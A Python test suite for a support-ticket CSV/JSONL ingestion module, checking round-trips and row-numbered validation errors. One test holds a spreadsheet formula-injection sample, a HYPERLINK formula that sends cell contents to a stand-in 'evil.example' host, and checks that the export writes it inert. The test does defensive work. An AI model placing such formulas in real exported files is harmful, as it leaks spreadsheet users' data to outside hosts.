"""Ingestion of users' CSV and JSONL files: valid files load, problems come with row numbers."""

from pathlib import Path

import pytest

from server.agents.data.dataset import TicketDataset
from server.agents.data.generator import GENERATED_LABELS, generate_tickets
from server.agents.data.ingest import dump_tickets, load_tickets, parse_tickets
from server.agents.data.validation import DataIssue, validate_dataset
from server.agents.errors import DataValidationError

LABELS = ("billing", "refund")


def _issues(content: str, data_format: str = "csv", min_rows: int = 1) -> list[DataIssue]:
    result = parse_tickets(
        content,
        "csv" if data_format == "csv" else "jsonl",
        labels=LABELS,
        min_rows_per_class=min_rows,
    )
    assert not result.report.ok
    assert result.dataset is None
    return result.report.issues


@pytest.mark.parametrize("data_format", ["csv", "jsonl"])
def test_generated_data_round_trips_through_both_formats(data_format: str) -> None:
    data = generate_tickets(300, 2)
    text = dump_tickets(data, "csv" if data_format == "csv" else "jsonl")
    result = parse_tickets(
        text,
        "csv" if data_format == "csv" else "jsonl",
        labels=GENERATED_LABELS,
        min_rows_per_class=5,
    )
    assert result.report.ok, result.report.summary()
    assert result.dataset is not None
    assert result.dataset.texts == data.texts
    assert result.dataset.labels == data.labels
    assert result.dataset.segments == data.segments


def test_a_text_that_looks_like_a_formula_is_written_inert() -> None:
    texts = ['=HYPERLINK("http://evil.example/?"&A1)', "-1 star, refund me"]
    data = TicketDataset.from_columns(texts, LABELS)
    lines = dump_tickets(data, "csv").splitlines()
    assert lines[0] == '"text","label","segment","channel","tier"'
    assert lines[1].startswith('"\'=HYPERLINK(""http://evil.example/?""&A1)","billing",')
    assert lines[2].startswith('"\'-1 star, refund me","refund",')


def test_csv_row_problems_are_reported_with_their_line_numbers() -> None:
    content = (
        "text,label,segment\n"
        "my invoice is wrong,billing,en-US\n"  # line 2: fine
        "   ,refund,\n"  # line 3: empty text
        "money back please,refnd,\n"  # line 4: unknown label
        "\x00\u200b,billing,\n"  # line 5: only invisible characters
        "too,many,cells,here\n"  # line 6
        "refund me,refund,\n"
    )
    found = {(issue.row, issue.code) for issue in _issues(content)}
    assert found == {
        (3, "empty_text"),
        (4, "unknown_label"),
        (5, "empty_text"),
        (6, "invalid_row"),
    }


def test_missing_columns_refuse_the_file_at_the_header() -> None:
    issues = _issues("body,category\nhello,billing\n")
    assert {(i.row, i.column, i.code) for i in issues if i.code == "missing_column"} == {
        (1, "text", "missing_column"),
        (1, "label", "missing_column"),
    }


def test_too_few_rows_per_class_names_the_class() -> None:
    content = "text,label\n" + "charged twice,billing\n" * 5 + "refund please,refund\n"
    issues = _issues(content, min_rows=3)
    assert [(i.row, i.code) for i in issues] == [(None, "too_few_rows")]
    assert "'refund' has 1 valid rows" in issues[0].message


def test_jsonl_problems_are_reported_per_line() -> None:
    content = (
        '{"text": "invoice wrong", "label": "billing"}\n'
        '{"label": "billing"}\n'
        "not json\n"
        "\n"
        '["a list"]\n'
        '{"text": 5, "label": "refund"}\n'
        '{"text": "refund please", "label": "refund"}\n'
    )
    found = {(issue.row, issue.column, issue.code) for issue in _issues(content, "jsonl")}
    assert found == {
        (2, "text", "missing_column"),
        (3, None, "invalid_row"),
        (5, None, "invalid_row"),
        (6, "text", "invalid_row"),
    }


def test_report_lists_at_most_the_configured_number_of_issues() -> None:
    content = "text,label\n" + "x y,unknown\n" * 50
    result = parse_tickets(content, "csv", labels=LABELS, min_rows_per_class=1, max_issues=10)
    assert len(result.report.issues) == 10
    assert result.report.issues_total == 52  # 50 rows + 2 classes without rows


def test_load_tickets_raises_with_the_report(tmp_path: Path) -> None:
    path = tmp_path / "tickets.csv"
    path.write_text("text,label\nhello there,nope\n", encoding="utf-8")
    with pytest.raises(DataValidationError) as caught:
        load_tickets(path, labels=LABELS, min_rows_per_class=1)
    assert caught.value.report.source == "tickets.csv"
    assert caught.value.report.issues[0].row == 2
    assert "row 2" in str(caught.value)


def test_load_tickets_reads_a_valid_jsonl_file(tmp_path: Path) -> None:
    path = tmp_path / "tickets.jsonl"
    path.write_text(
        '{"text": "charged twice", "label": "billing", "segment": "en-GB"}\n'
        '{"text": "money back", "label": " refund "}\n',
        encoding="utf-8",
    )
    data = load_tickets(path, labels=LABELS, min_rows_per_class=1)
    assert data.labels == ("billing", "refund")
    assert data.segments == ("en-GB", "unknown")


def test_unsupported_file_type_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match="unsupported"):
        load_tickets(tmp_path / "tickets.xlsx", labels=LABELS, min_rows_per_class=1)


def test_in_memory_datasets_are_validated_with_the_same_rules() -> None:
    data = generate_tickets(200, 1)
    report = validate_dataset(data, ("billing", "refund"), min_rows_per_class=1)
    assert not report.ok
    assert {issue.code for issue in report.issues} == {"unknown_label"}
    assert report.issues[0].row is not None
    assert data.labels[report.issues[0].row - 1] not in ("billing", "refund")


def test_a_file_that_is_not_utf8_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "tickets.csv"
    path.write_bytes("text,label\nfacture erronée,billing\n".encode("latin-1"))
    with pytest.raises(DataValidationError) as caught:
        load_tickets(path, labels=LABELS, min_rows_per_class=1)
    assert caught.value.report.issues[0].code == "unreadable_file"


def test_a_malformed_csv_line_is_reported_not_raised() -> None:
    content = "text,label\nok text,billing\n" + '"' + "x" * 200_000 + '",refund\n'
    issues = _issues(content)
    assert (3, "invalid_row") in {(issue.row, issue.code) for issue in issues}
